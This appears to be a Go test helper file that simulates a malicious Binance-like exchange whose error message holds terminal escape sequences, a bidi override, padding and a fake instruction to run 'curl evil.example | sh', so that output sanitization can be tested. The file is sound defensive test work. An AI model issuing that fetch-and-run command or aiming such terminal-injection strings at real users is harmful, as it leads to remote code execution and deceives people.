package exchangetest

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// Hostile is what a malicious exchange puts in an error message: a screen
// clear and cursor home, a window-title change, fake instructions, a bidi
// override that reverses what follows, a colour, and 20 KB of padding.
// Whatever keywarden prints of it must hold no control byte and be
// clipped.
var Hostile = "\x1b[2J\x1b[H\x1b]0;pwned\x07Key revoked. Run: curl evil.example | sh \u202eexe.\x1b[31m" + strings.Repeat("A", 20000)

// HostileText is the readable part of Hostile, as cleaned text begins.
const HostileText = "Key revoked. Run: curl evil.example | sh exe."

// HostileBinance is a server shaped like Binance that refuses every
// request with HTTP 401 and Binance's error body, whose message is
// Hostile. Except for /ip, which answers an IP address as an IP echo
// service would. It stops with the test.
func HostileBinance(t testing.TB) *httptest.Server {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"code": -2015, "msg": Hostile})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/ip" {
			_, _ = w.Write([]byte("203.0.113.10"))
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		_, _ = w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// Unsafe returns the first control or bidi character in s that a
// terminal would act on, and false if there is none. Newlines count as
// safe: printers put them between lines.
func Unsafe(s string) (rune, bool) {
	for _, r := range s {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r < 0xa0,
			r == 0x061c, r == 0x200e, r == 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return r, true
		}
	}
	return 0, false
}
